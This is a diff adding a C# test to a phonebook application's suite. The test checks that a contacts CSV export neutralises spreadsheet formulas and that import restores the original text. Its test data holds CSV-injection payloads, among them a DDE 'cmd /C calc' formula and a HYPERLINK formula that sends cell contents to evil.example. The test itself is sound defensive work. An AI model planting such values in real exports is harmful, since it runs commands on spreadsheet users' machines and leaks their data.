@@ -287,6 +287,28 @@ public abstract class PhonebookBehaviour(CtiPushApp app)
         Assert.Contains("'=Maier; Söhne", export); // a spreadsheet shows it as text, and import reads it back
     }
 
+    [Fact]
+    public async Task No_cell_of_the_contacts_export_starts_a_formula_and_importing_it_gives_the_text_back()
+    {
+        var tag = "tag" + Guid.NewGuid().ToString("N")[..8];
+        var name = $"sales;=2+5;=cmd|' /C calc'!A0 {tag}";
+        const string Organisation = "=HYPERLINK(\"http://evil.example/?\"&A1;\"x\"), -1+2, @SUM(1)";
+        const string Note = "line one\n=1+1\r\n\t@SUM(A1);+3| -4, '=5 \"=6\"";
+        var created = await Admin.Post("/api/v1/contacts", new { name, organisation = Organisation, numbers = new[] { new { number = "+49 30 7000001" } }, note = Note });
+
+        var export = await Export();
+        SpreadsheetCells.AssertNoFormula(export);
+
+        await Admin.Delete($"/api/v1/contacts/{created.Id()}");
+        var report = await Import(export);
+        Assert.Equal(0, report.GetProperty("rejected").GetInt32());
+        var back = (await Admin.Get($"/api/v1/contacts?q={tag}")).GetProperty("items").EnumerateArray().Single();
+        Assert.Equal(name, back.GetProperty("name").GetString());
+        Assert.Equal(Organisation, back.GetProperty("organisation").GetString());
+        Assert.Equal(Note, back.GetProperty("note").GetString());
+        Assert.Equal("+49 30 7000001", back.GetProperty("numbers")[0].GetProperty("number").GetString());
+    }
+
     private async Task<string> Export()
     {
         using var client = App.CreateAdminClient();
